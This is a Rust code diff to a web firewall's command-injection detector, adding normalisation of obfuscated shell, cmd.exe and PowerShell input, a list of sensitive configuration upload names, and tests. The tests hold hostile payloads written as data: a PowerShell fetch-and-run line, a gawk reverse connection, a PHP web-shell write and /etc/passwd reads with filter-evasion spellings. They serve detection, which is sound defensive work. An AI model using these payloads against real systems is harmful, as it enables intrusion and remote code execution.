@@ -1,11 +1,16 @@
 //! OS command injection, read the way a shell reads it: the value is normalised the way the
 //! shell would before running it (quotes and backslashes inside words removed, `${IFS}` as a
-//! space, `$@` dropped, see [`normalize`]), then every command position — value start, after
-//! `;`, `|`, `&`, a newline, `$(`, a backtick, a brace list, a URL query value — is checked
-//! for a known command word (optionally with a path such as `/bin/` or a glob like `/???/`,
-//! see [`glob`]). A command needs arguments that only a shell line has, unless it does
-//! something on its own (`id`), its name only exists in a shell (`whoami`), or it was
-//! spelled to dodge a filter (`w'h'oami`, `/???/??t`): `cat food` or `ping me` stays quiet.
+//! space, `$@` dropped, cmd.exe carets, ANSI-C `$'\x77'` escapes, `${HOME:0:1}` as `/`, see
+//! [`normalize`]), then every command position — value start, after `;`, `|`, `&`, a
+//! newline, `$(`, a backtick, a brace list, a URL query value — is checked for a known
+//! command word (optionally with a path such as `/bin/`, `c:\windows\system32\` or a glob
+//! like `/???/`, see [`glob`]). A command needs arguments that only a shell line has (options,
+//! paths, redirections, a delay for `sleep`, a subcommand such as `net user`, a script for
+//! an interpreter), unless it does something on its own (`id`), its name only exists in a
+//! shell (`whoami`), or it was spelled to dodge a filter (`w'h'oami`, `/???/??t`): `cat food`
+//! or `ping me` stays quiet. Shell grammar without a command word counts too: `$((…))`,
+//! bash-only expansions, cmd.exe `for`/`if`, PowerShell `[Type]::Method(`, fork bombs, and
+//! uploads named like configuration files (`.htaccess`, `.bashrc`).
 
 mod commands;
 mod glob;
@@ -20,7 +25,9 @@ use super::prefilter::{lit, lits, LitId, LitSet, Lits};
 use super::words::Fnv;
 use super::{AttackType, Detector, Finding};
 use crate::point::Leaf;
-use commands::{BARE, COMMANDS, DISTINCT, INTERPRETERS, PREFIXES, START_BARE};
+use commands::{
+    BARE, COMMANDS, DISTINCT, INTERPRETERS, NUMERIC, PREFIXES, START_BARE, SUBCOMMANDS, WINDOWS,
+};
 
 /// What a command word can do without help, looked up once per command position.
 const F_BARE: u8 = 1;
@@ -28,6 +35,9 @@ const F_PREFIX: u8 = 2;
 const F_START_BARE: u8 = 4;
 const F_DISTINCT: u8 = 8;
 const F_INTERPRETER: u8 = 16;
+const F_NUMERIC: u8 = 32;
+const F_WINDOWS: u8 = 64;
+const F_SUBCOMMAND: u8 = 128;
 
 type CommandMap = HashMap<&'static str, u8, BuildHasherDefault<Fnv>>;
 use normalize::{normalize, Normalized};
@@ -46,10 +56,15 @@ fn commands() -> &'static CommandMap {
             (START_BARE, F_START_BARE),
             (DISTINCT, F_DISTINCT),
             (INTERPRETERS, F_INTERPRETER),
+            (NUMERIC, F_NUMERIC),
+            (WINDOWS, F_WINDOWS),
         ] {
             for c in list {
                 *m.entry(c).or_insert(0) |= flag;
             }
+        }
+        for (c, _) in SUBCOMMANDS {
+            *m.entry(c).or_insert(0) |= F_SUBCOMMAND;
         }
         m
     })
@@ -74,6 +89,21 @@ fn is_word(b: u8) -> bool {
     b.is_ascii_alphanumeric() || b == b'_' || b == b'-'
 }
 
+/// Longest command or directory name read at a command position.
+const MAX_WORD: usize = 32;
+
+/// Bytes of a command word or of a glob naming one: [`is_word`] plus `?*[]`.
+static WORD_OR_GLOB: [bool; 256] = {
+    let mut t = [false; 256];
+    let mut c = 0;
+    while c < 256 {
+        let b = c as u8;
+        t[c] = b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'?' | b'*' | b'[' | b']');
+        c += 1;
+    }
+    t
+};
+
 /// A command word found at a command position.
 #[derive(Clone, Copy)]
 struct Cmd {
@@ -86,6 +116,8 @@ struct Cmd {
     handed: bool,
     /// `F_*` flags of `name`.
     flags: u8,
+    /// A cmd.exe option glued to the name (`dir/s`): the arguments have started.
+    glued: bool,
 }
 
 impl Cmd {
@@ -116,25 +148,74 @@ fn command_at_depth(s: &str, mut i: usize, depth: usize) -> Option<Cmd> {
             .and_then(|n| command_at_depth(s, i + n, depth + 1))
             .map(|c| Cmd { handed: true, ..c });
     }
-    // Path prefix: `/bin/`, `/usr/local/bin/`, `/???/`, `c:\windows\system32\`.
+    // Path prefix: `/bin/`, `/usr/local/bin/`, `/???/`, `c:\windows\system32\`. Words are
+    // read at most [`MAX_WORD`] bytes far: no command or directory name is longer, and long
+    // tokens (ids, base64) are what most values start with.
     let word_end = |from: usize| {
         from + b[from..]
             .iter()
-            .take_while(|&&c| is_word(c) || c == b'?' || c == b'*' || c == b'[' || c == b']')
+            .take(MAX_WORD + 1)
+            .take_while(|&&c| WORD_OR_GLOB[usize::from(c)])
             .count()
     };
+    // `dir/s`, `ipconfig/all`: cmd.exe reads a `/` glued to a tool's name as its option.
+    let first = word_end(i);
+    if first - i > MAX_WORD {
+        return None;
+    }
+    if b.get(first) == Some(&b'/') {
+        let opt = b[first + 1..]
+            .iter()
+            .take_while(|c| c.is_ascii_alphabetic() || **c == b'?')
+            .count();
+        let after = b.get(first + 1 + opt);
+        let f = flags(&s[i..first]);
+        // Prose glues words with slashes too (`copy/paste`): a longer option needs a name
+        // only a shell has.
+        if f & F_WINDOWS != 0
+            && (opt == 1 || opt == 2 || (3..=8).contains(&opt) && f & F_DISTINCT != 0)
+            && after.is_none_or(|c| matches!(c, b' ' | b'\t' | b':' | b'/' | b'&' | b'|' | b'+'))
+        {
+            return Some(Cmd {
+                start: i,
+                end: first,
+                globbed: false,
+                handed: false,
+                flags: f,
+                glued: true,
+            });
+        }
+    }
     let mut start = i;
     let mut pathed = false;
-    loop {
-        let e = word_end(start);
-        if b.get(e) == Some(&b'/') && e + 1 < b.len() && (e > start || start == i) {
-            start = e + 1;
-            pathed = true;
-            continue;
-        }
-        break;
+    let mut end = first;
+    // `c:\windows\…`, `%systemroot%\…`: the root of a Windows path.
+    let root = if b[i..].len() > 3 && b[i].is_ascii_alphabetic() && b[i + 1] == b':' {
+        matches!(b[i + 2], b'\\' | b'/').then_some(i + 3)
+    } else if b.get(i) == Some(&b'%') {
+        memchr::memchr(b'%', &b[i + 1..b.len().min(i + 33)])
+            .map(|c| i + 2 + c)
+            .filter(|&c| b.get(c) == Some(&b'\\'))
+            .map(|c| c + 1)
+    } else {
+        None
+    };
+    if let Some(r) = root {
+        start = r;
+        pathed = true;
+        end = word_end(r);
     }
-    let mut end = word_end(start);
+    while matches!(b.get(end), Some(b'/' | b'\\'))
+        && end + 1 < b.len()
+        && (end > start || start == i)
+    {
+        start = end + 1;
+        pathed = true;
+        end = word_end(start);
+    }
+    if end - start > MAX_WORD {
+        return None;
+    }
     // `python3.10`: a dotted version is part of the command word.
     while b.get(end) == Some(&b'.') && b.get(end + 1).is_some_and(u8::is_ascii_digit) {
         end = word_end(end + 1);
@@ -147,13 +228,23 @@ fn command_at_depth(s: &str, mut i: usize, depth: usize) -> Option<Cmd> {
     if w.is_empty() {
         return None;
     }
-    let stem = w.trim_end_matches(".exe");
+    // Byte loops and a plain suffix test: `trim_end_matches` with a string pattern builds a
+    // searcher per call, which showed up in profiles at this position.
+    let stem = w.strip_suffix(".exe").unwrap_or(w);
     // `python3.10`, `gcc10.1`: a version glued to the name.
-    let bare = stem.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
-    if let Some((_, &f)) = commands()
-        .get_key_value(stem)
-        .or_else(|| commands().get_key_value(bare).filter(|_| !bare.is_empty()))
-    {
+    let bare_len = stem.len()
+        - stem
+            .bytes()
+            .rev()
+            .take_while(|c| c.is_ascii_digit() || *c == b'.')
+            .count();
+    let bare = &stem[..bare_len];
+    let found = commands().get(stem).copied().or_else(|| {
+        (!bare.is_empty() && bare.len() < stem.len())
+            .then(|| commands().get(bare).copied())
+            .flatten()
+    });
+    if let Some(f) = found {
         // A prefix command hands over to the command it runs: `time whoami | sh`.
         if f & F_PREFIX != 0 && depth < 2 {
             if let Some(inner) = command_at_depth(s, end, depth + 1) {
@@ -166,6 +257,7 @@ fn command_at_depth(s: &str, mut i: usize, depth: usize) -> Option<Cmd> {
             globbed: false,
             handed: false,
             flags: f,
+            glued: false,
         });
     }
     if !w.bytes().any(|c| matches!(c, b'?' | b'*' | b'[')) {
@@ -189,6 +281,7 @@ fn command_at_depth(s: &str, mut i: usize, depth: usize) -> Option<Cmd> {
         globbed: true,
         handed: false,
         flags: flags(c),
+        glued: false,
     })
 }
 
@@ -223,6 +316,11 @@ fn shell_args(rest: &str) -> bool {
             // `chmod +x`, `vim +silent`: plus-options.
             || r.starts_with('+') && rb.get(1).is_some_and(u8::is_ascii_alphabetic)
             || r.starts_with('-') && rb.get(1).is_some_and(|c| c.is_ascii_alphabetic() || *c == b'-')
+            // `kill -9 1`, `head -5 x`: a numeric option, ended like a word.
+            || r.starts_with('-') && {
+                let n = rb[1..].iter().take_while(|c| c.is_ascii_digit()).count();
+                n > 0 && rb.get(1 + n).is_none_or(|c| matches!(c, b' ' | b'\t' | b'\n' | b'\r' | b';' | b'|' | b'&'))
+            }
             || r.starts_with('>') && !r.starts_with("> ")
             || r.starts_with("./")
             // `dir c:`, `type c:\boot.ini`: a drive path.
@@ -231,11 +329,85 @@ fn shell_args(rest: &str) -> bool {
                 && rb[1] == b':'
                 && rb.get(2).is_none_or(|c| matches!(c, b'\\' | b'/' | b' ' | b'+' | b'|'))
             || r.contains("/dev/")
+            // `echo '<?php …'>x.php`: output redirected into a file glued to the argument.
+            || r.as_bytes().windows(3).any(|w| {
+                matches!(w[0], b'\'' | b'"' | b')')
+                    && w[1] == b'>'
+                    && (w[2].is_ascii_alphanumeric() || matches!(w[2], b'/' | b'~' | b'.' | b'>'))
+            })
             || r.contains("http://")
             || r.contains("https://")
             || r.as_bytes().windows(3).any(|w| {
                 w[0] == b' ' && matches!(w[1], b'-' | b'+') && w[2].is_ascii_alphabetic()
             }))
+}
+
+/// The first argument after a command word: `rest` without its leading blanks (and a literal
+/// `+`), up to the next blank or separator.
+fn first_arg(rest: &str) -> &str {
+    let r = skip_blank(rest, true);
+    let n = r
+        .bytes()
+        .take_while(|c| {
+            !matches!(
+                c,
+                b' ' | b'\t' | b'+' | b';' | b'|' | b'&' | b'\n' | b'`' | b')'
+            )
+        })
+        .count();
+    &r[..n]
+}
+
+/// Arguments that make a command line out of a command word even though they look like
+/// prose words: a delay for `sleep`, a script file for an interpreter, a subcommand of a tool
+/// whose name is a common word (`net user`). `alone`: the value must end after them (for a
+/// value that starts with the command, where prose is likelier than after a separator).
+fn telling_args(cmd: &Cmd, name: &str, rest: &str, alone: bool) -> bool {
+    if !rest.starts_with([' ', '\t', '+']) {
+        return false;
+    }
+    // Bounded like [`shell_args`]: it runs at every command position.
+    let mut cut = rest.len().min(ARGS_WINDOW);
+    while !rest.is_char_boundary(cut) {
+        cut -= 1;
+    }
+    let rest = &rest[..cut];
+    let arg = first_arg(rest);
+    if arg.is_empty() {
+        return false;
+    }
+    let after = &skip_blank(rest, true)[arg.len()..];
+    let ends = after.trim_start_matches([' ', '+', '\t']).is_empty()
+        || after.starts_with([';', '|', '&', '\n', '`', ')']);
+    if cmd.is(F_NUMERIC) && arg.bytes().all(|c| c.is_ascii_digit() || c == b'.') {
+        return !alone || ends;
+    }
+    // `bash x.sh`, `python exploit.py`: an interpreter running a script file.
+    if cmd.is(F_INTERPRETER) {
+        let ext = arg
+            .rsplit_once('.')
+            .map_or("", |(stem, e)| if stem.is_empty() { "" } else { e });
+        if matches!(
+            ext,
+            "sh" | "bash" | "py" | "pl" | "rb" | "php" | "js" | "lua" | "ps1" | "bat" | "vbs"
+        ) {
+            return true;
+        }
+    }
+    if cmd.is(F_SUBCOMMAND) {
+        let known = SUBCOMMANDS
+            .iter()
+            .find(|(c, _)| *c == name)
+            .is_some_and(|(_, subs)| subs.contains(&arg));
+        return known && (!alone || ends || after.contains(" /") || after.contains(" -"));
+    }
+    false
+}
+
+/// `iex(…)`, `invoke-expression(…)`: a PowerShell command called with its argument in
+/// parentheses.
+fn powershell_call(name: &str, rest: &str) -> bool {
+    rest.starts_with('(') && (name.contains('-') || matches!(name, "iex" | "iwr" | "irm"))
 }
 
 /// Fragments that only a shell command line contains.
@@ -255,6 +427,9 @@ const STRONG: &[&str] = &[
     "${ifs}",
     "$shell ",
     "${shell}",
+    // gawk's network special files: `awk 'BEGIN{s="/inet/tcp/0/host/port"…}'`.
+    "/inet/tcp/",
+    "/inet/udp/",
 ];
 
 pub struct Rce {
@@ -271,6 +446,12 @@ pub struct Rce {
     function_gate: LitId,
     bin_gate: LitId,
     url_gate: LitId,
+    /// Bytes [`normalize`] undoes: without any, the value is its own normal form.
+    norm_gate: Lits,
+    /// Separators that start a command (see [`Rce::after_separators`]).
+    sep_gate: Lits,
+    /// Glob characters (see [`globbed_path`]).
+    glob_gate: Lits,
 }
 
 /// cmd.exe `IF [/I] [NOT] EXIST|DEFINED|ERRORLEVEL x cmd`, `IF a==b cmd` and a comparison of a
@@ -294,8 +475,23 @@ const GRAMMAR: &[(&[&str], &str, &str)] = &[
     ),
     (
         &["alias"],
-        r"(?:^|[\s;&|])alias\s+(?:[+-][a-z]+\+?\s+)*[^\s=;&|'\x22]+=",
+        r#"(?:^|[\s;&|])alias\s+(?:[+-][a-z]+\+?\s+)*(?:[^\s=;&|'"]+|'[^'\s=]+'|"[^"\s=]+")="#,
         "shell alias definition",
+    ),
+    // `${path##*:}`, `${home:0:1}`, `${#x}`, `${!x}`: parameter expansions with operators only
+    // bash has (templates write `${name}` and `${name:-default}`; JavaScript's `%` and `/`
+    // stay out), and `$[1+1]`, the old arithmetic expansion.
+    (
+        &["${", "$["],
+        r"\$\{(?:[#!][a-z_][a-z0-9_]*\}|[a-z_][a-z0-9_]*(?:##?|%%|//|:\d+:\d+\}|:\d+\}|\^\^|,,))|\$\[\s*\d+\s*[-+*/%]\s*\d+\s*\]",
+        "shell parameter expansion",
+    ),
+    // `[System.Diagnostics.Process]::Start('calc')`, `[IO.File]::ReadAllText(…)`: PowerShell
+    // calling a .NET static method; C# and Java write no brackets around the type.
+    (
+        &["]::"],
+        r"\[(?:system\.)?[a-z]+(?:\.[a-z]+)*\]::[a-z]+\s*\(",
+        "powershell .net call",
     ),
 ];
 
@@ -379,7 +575,11 @@ impl Fences {
 impl Rce {
     pub fn new() -> Self {
         Rce {
-            strong: AhoCorasick::new(STRONG).expect("static pattern list builds"),
+            // Leftmost-longest: `$((` must win over the `$(` it starts with.
+            strong: AhoCorasick::builder()
+                .match_kind(aho_corasick::MatchKind::LeftmostLongest)
+                .build(STRONG)
+                .expect("static pattern list builds"),
             strong_gate: lits(STRONG),
             for_loop: regex::bytes::Regex::new(
                 r#"(?-u)(?:^|[\s;&|(])for\s+(?:/[dlrf]\s+|"[^"]*"\s+|[a-z]:\\\S*\s+)*%%?\S+\s+in\s*\([^)]*\)\s*do\b"#,
@@ -401,13 +601,20 @@ impl Rce {
             function_gate: lit("()"),
             bin_gate: lit("bin/"),
             url_gate: lit("://"),
+            norm_gate: lits(&["$", "'", "\"", "\\", "`", "^", "()"]),
+            sep_gate: lits(&[";", "|", "&", "\n", "\r", "`", "$("]),
+            glob_gate: lits(&["?", "*", "["]),
         }
     }
 
     fn analyse(&self, s: &str, present: &LitSet) -> Option<(usize, usize, &'static str)> {
         let strong = present.any(&self.strong_gate);
         let for_loop = present.any(&self.for_gate);
-        for m in self.strong.find_iter(if strong { s } else { "" }) {
+        for m in strong
+            .then(|| self.strong.find_iter(s))
+            .into_iter()
+            .flatten()
+        {
             let p = m.start();
             let construct = STRONG[m.pattern().as_usize()];
             if !matches!(construct, "$(" | "<(" | ">(") || command_at(s, m.end()).is_some() {
@@ -440,23 +647,18 @@ impl Rce {
                 return Some((at.0, at.1, "shell recursive function"));
             }
         }
-        let n = normalize(s);
+        let n = normalize(s, present.any(&self.norm_gate));
         // Normalising can only create `bin/` (`b'i'n/`) when it changed the text.
         let bin = present.has(self.bin_gate) || n.changed();
         let s = n.text.as_ref();
-        // `/bin/sleep 31`, `/usr/bin/id`: a known command spelled with its system directory.
-        for (p, _) in s.match_indices("bin/").take_while(|_| bin) {
-            let dir_ok = s[..p].ends_with("/s") || s[..p].ends_with('/');
-            let rest = &s[p + 4..];
-            let name = &rest[..rest.bytes().take_while(|&c| is_word(c)).count()];
-            // `bin/cscli` as a whole value: a relative bin directory, with a shell-only name.
-            let relative =
-                p == 0 && flags(name) & F_DISTINCT != 0 && name.len() == rest.trim_end().len();
-            if (dir_ok || relative) && commands().contains_key(name) {
-                return Some((p, (p + 48).min(s.len()), "command by system path"));
-            }
+        if let Some(p) = bin.then(|| system_path(s)).flatten() {
+            return Some((p, (p + 48).min(s.len()), "command by system path"));
         }
-        if let Some(p) = globbed_path(s) {
+        if let Some(p) = present
+            .any(&self.glob_gate)
+            .then(|| globbed_path(s))
+            .flatten()
+        {
             return Some((p, (p + 48).min(s.len()), "globbed system path"));
         }
         if let Some(end) = value_start(&n, 0, s.len()) {
@@ -478,6 +680,9 @@ impl Rce {
                     }
                 }
             }
+        }
+        if !present.any(&self.sep_gate) {
+            return None;
         }
         self.after_separators(&n)
     }
@@ -566,12 +771,27 @@ impl Rce {
                 at = after;
                 spacers += 1;
             }
+            let word = at + b[at..].iter().take_while(|&&c| c == b' ').count();
+            // `;$env:username`: PowerShell's environment drive.
+            if s[word..].starts_with("$env:") {
+                return Some((i, (word + 48).min(s.len()), "command after shell separator"));
+            }
+            // `;{cat,/etc/passwd}`: a brace list expanding to a command line.
+            if b.get(word) == Some(&b'{') && brace_command(&s[word..]).is_some() {
+                return Some((i, (word + 64).min(s.len()), "command after shell separator"));
+            }
             let Some(cmd) = command_at(s, at) else {
                 continue;
             };
             let end = cmd.end;
             let rest = &s[end..];
+            let name = s[cmd.start..end]
+                .strip_suffix(".exe")
+                .unwrap_or(&s[cmd.start..end]);
+            let ps_call = powershell_call(name, rest);
             let closes = rest.is_empty()
+                || cmd.glued
+                || ps_call
                 || rest.starts_with('+') && !rest.starts_with("++")
                 || rest.starts_with([' ', '\t', ';', '|', '&', '`', ')', '\n', '<', '>', '}', ',']);
             if !closes {
@@ -586,7 +806,11 @@ impl Rce {
                 let r = r.trim_start_matches(|c: char| c.is_ascii_digit());
                 r.starts_with(['<', '>'])
             });
-            let args = redirected || shell_args(rest) && !(interpreter && rest.starts_with('|'));
+            let args = redirected
+                || cmd.glued
+                || ps_call
+                || telling_args(&cmd, name, rest, false)
+                || shell_args(rest) && !(interpreter && rest.starts_with('|'));
             // `curl -s x | sh`: an interpreter reading the script a command line pipes in
             // (a list like `python|ruby` pipes nothing).
             let fed = interpreter && b[i] == b'|' && no_args && {
@@ -637,7 +861,13 @@ fn value_start(n: &Normalized, from: usize, to: usize) -> Option<usize> {
     let closes = rest.is_empty() || rest.starts_with([' ', '\t', '+', '\n', ';', '|', '&']);
     let alone = rest.trim().is_empty();
     let interpreter = cmd.is(F_INTERPRETER);
+    let name = s[cmd.start..cmd.end]
+        .strip_suffix(".exe")
+        .unwrap_or(&s[cmd.start..cmd.end]);
     let ok = shell_args(rest) && !(interpreter && rest.starts_with('|'))
+        || cmd.glued
+        || powershell_call(name, rest)
+        || telling_args(&cmd, name, rest, true)
         || prefixed
         // `id;`, `ls|`: a command that acts alone, ended by a separator.
         || cmd.is(F_BARE) && rest.starts_with([';', '|', '&', '`'])
@@ -664,6 +894,22 @@ fn brace_command(s: &str) -> Option<usize> {
     let cmd = command_at(&word, 0)?;
     let whole = cmd.end == word.len();
     (whole && (has_args || cmd.is(F_BARE) || cmd.globbed)).then_some(s.len().min(64))
+}
+
+/// `/bin/sleep 31`, `/usr/bin/id`: a known command spelled with its system directory.
+fn system_path(s: &str) -> Option<usize> {
+    for (p, _) in s.match_indices("bin/") {
+        let dir_ok = s[..p].ends_with("/s") || s[..p].ends_with('/');
+        let rest = &s[p + 4..];
+        let name = &rest[..rest.bytes().take_while(|&c| is_word(c)).count()];
+        // `bin/cscli` as a whole value: a relative bin directory, with a shell-only name.
+        let relative =
+            p == 0 && flags(name) & F_DISTINCT != 0 && name.len() == rest.trim_end().len();
+        if (dir_ok || relative) && commands().contains_key(name) {
+            return Some(p);
+        }
+    }
+    None
 }
 
 /// Where an absolute path with glob characters resolves to a system file or command
@@ -700,6 +946,92 @@ fn globbed_path(s: &str) -> Option<usize> {
     None
 }
 
+/// Files a server or a shell reads as configuration or runs at login: uploading one over
+/// the real file changes what runs (`.htaccess` handlers, `.bashrc`, `authorized_keys`).
+const RESTRICTED_UPLOADS: &[&str] = &[
+    ".htaccess",
+    ".htpasswd",
+    ".htdigest",
+    ".user.ini",
+    "php.ini",
+    "web.config",
+    "wp-config.php",
+    "settings.php",
+    "config.php",
+    "configuration.php",
+    "localsettings.php",
+    "local.xml",
+    "database.yml",
+    "secrets.yml",
+    ".env",
+    ".bashrc",
+    ".bash_profile",
+    ".bash_login",
+    ".bash_logout",
+    ".profile",
+    ".zshrc",
+    ".zprofile",
+    ".cshrc",
+    ".pam_environment",
+    "authorized_keys",
+    "id_rsa",
+    "id_ed25519",
+    ".boto",
+    ".npmrc",
+    ".netrc",
+    ".pypirc",
+    ".gitconfig",
+    ".git-credentials",
+    ".pgpass",
+    ".my.cnf",
+    "crontab",
+    "sudoers",
+    "passwd",
+    "shadow",
+    "ld.so.preload",
+    "rc.local",
+    ".xinitrc",
+    ".vimrc",
+    ".exrc",
+    ".inputrc",
+];
+
+/// An uploaded file named like one of [`RESTRICTED_UPLOADS`], also as a backup copy or with
+/// the spacing and separators a filter may miss (`wp-config-php.bak`, `settings. php`).
+fn restricted_upload(leaf: &Leaf) -> bool {
+    // Upload headers are all `X-…` ones: other headers are not worth the name lookup.
+    let header_ok = leaf
+        .header
+        .as_deref()
+        .is_none_or(|h| h.starts_with("X-") || h.starts_with("X_"));
+    if leaf.lower.len() > 96 || !header_ok {
+        return false;
+    }
+    let Some(name) = super::upload::filename(leaf) else {
+        return false;
+    };
+    let base = name.rsplit(['/', '\\']).next().unwrap_or(name);
+    let mut base: String = base
+        .chars()
+        .filter(|c| !c.is_whitespace() && *c != '\0')
+        .collect();
+    loop {
+        let t = base.trim_end_matches(['.', '~']);
+        let t = [
+            ".bak", ".old", ".orig", ".save", ".swp", ".tmp", ".txt", ".backup", ".dist",
+        ]
+        .iter()
+        .find_map(|x| t.strip_suffix(x))
+        .unwrap_or(t);
+        if t.len() == base.len() {
+            break;
+        }
+        base = t.to_owned();
+    }
+    let dotted = base.replace("-php", ".php").replace("_php", ".php");
+    RESTRICTED_UPLOADS.contains(&base.as_str()) || RESTRICTED_UPLOADS.contains(&dotted.as_str())
+}
+
 impl Detector for Rce {
     fn attack(&self) -> AttackType {
         AttackType::Rce
@@ -709,6 +1041,12 @@ impl Detector for Rce {
         let s = leaf.lower.as_str();
         if s.len() < 2 {
             return None;
+        }
+        if restricted_upload(leaf) {
+            return Some(Finding {
+                at: 0..s.len(),
+                reason: "upload of a configuration file",
+            });
         }
         self.analyse(s, present).map(|(a, b, reason)| Finding {
             at: a.min(s.len())..b.min(s.len()),
@@ -801,11 +1139,95 @@ mod tests {
             "bin/kubectl",
             "\"`true`\"",
             "''w''get x",
+            // Blind, time-based probes: a delay after any separator.
+            ";sleep 5",
+            "|sleep 10|",
+            "1 && sleep 5 #",
+            "\";sleep 5;\"",
+            ";sleep+5;",
+            // Characters picked out of variables, ANSI-C and caret escapes.
+            ";cat ${HOME:0:1}etc${HOME:0:1}passwd",
+            ";ls ${PATH:0:1}",
+            ";$'\\x77\\x68\\x6f\\x61\\x6d\\x69'",
+            ";$'\\167\\150\\157\\141\\155\\151'",
+            ";w^h^o^a^m^i",
+            "| c^m^d /c dir",
+            // Brace lists and cmd.exe options glued to the tool.
+            ";{cat,/etc/passwd}",
+            "& dir/s c:\\",
+            ";cmd/c whoami",
+            "x&ipconfig/all",
+            // Subcommands of tools named like words, scripts run by interpreters.
+            "&& net user",
+            "| net localgroup administrators",
+            ";reg query hklm\\software",
+            ";bash script.sh",
+            ";python exploit.py",
+            // PowerShell cmdlets, gawk network files, output into a web file.
+            ";iex(iwr http://x/a.ps1)",
+            ";Start-Process calc.exe",
+            ";awk 'BEGIN {s = \"/inet/tcp/0/10.0.0.1/4242\"}'",
+            ";echo '<?php system($_GET[1]);?>'>x.php",
+            ";getent passwd",
+            ";mkfifo /tmp/p",
+            "kill -9 1",
+            "kill '-'9\n",
+            ";gunzip -c /var/log/x.gz",
+            ";dmidecode -t 1",
+            // Windows paths to the tool, PowerShell's environment drive and .NET calls.
+            "& c:\\windows\\system32\\whoami",
+            "& \"c:\\windows\\system32\\whoami.exe\"",
+            "| %SYSTEMROOT%\\System32\\ipconfig /all",
+            ";$env:username",
+            ";[System.Diagnostics.Process]::Start('calc')",
+            "& net1 user",
+            ";c${u}at /etc/passwd",
+            "alias 'x'=curl",
+            ";lsof -i",
+            ";df",
+            // Shell expressions evaluated without a command: arithmetic, bash-only expansions.
+            "$((1+1))",
+            "x=$((1337*7331))",
+            "${PATH##*:}",
+            "${#PATH}",
+            "$[2+2]",
         ]
         .iter()
         .filter(|v| !hit(v))
         .collect::<Vec<_>>();
         assert!(missed.is_empty(), "{missed:?}");
+    }
+
+    fn upload(name: &str) -> bool {
+        let mut leaf = Leaf::new(
+            crate::point::Point::name("header"),
+            crate::point::Place::Header,
+            name.to_owned(),
+        );
+        leaf.header = Some("X-FILENAME".into());
+        restricted_upload(&leaf)
+    }
+
+    #[test]
+    fn uploads_of_configuration_files() {
+        for n in [
+            ".htaccess",
+            "wp-config-php.bak",
+            "settings. php",
+            "../../.bashrc",
+            "authorized_keys~",
+            "web.config.old",
+        ] {
+            assert!(upload(n), "{n}");
+        }
+        for n in [
+            "photo.jpg",
+            "config.php.jpg",
+            "notes.txt",
+            "my-settings.pdf",
+        ] {
+            assert!(!upload(n), "{n}");
+        }
     }
 
     #[test]
@@ -858,6 +1280,28 @@ mod tests {
             "set it to `true` in the config file",
             "bin/rails",
             "true",
+            // Delays, slashes and subcommand words in prose.
+            "sleep well tonight",
+            "I sleep 8 hours",
+            "sleep: 5 hours",
+            "copy/paste",
+            "cut;copy/paste;delete",
+            "set/get",
+            "net use of funds",
+            "the ip address",
+            "x^2 + y^2",
+            "${name:-guest}",
+            "it's 5 o'clock",
+            "python is a language",
+            "bash party",
+            "rock & roll",
+            "c:\\windows\\temp\\report.txt",
+            "price: $env is not a variable",
+            "[Math]::max is C# style",
+            "news;free;top",
+            "${i%2}",
+            "${a/b}",
+            "$[5] off",
         ]
         .iter()
         .filter(|v| hit(v))
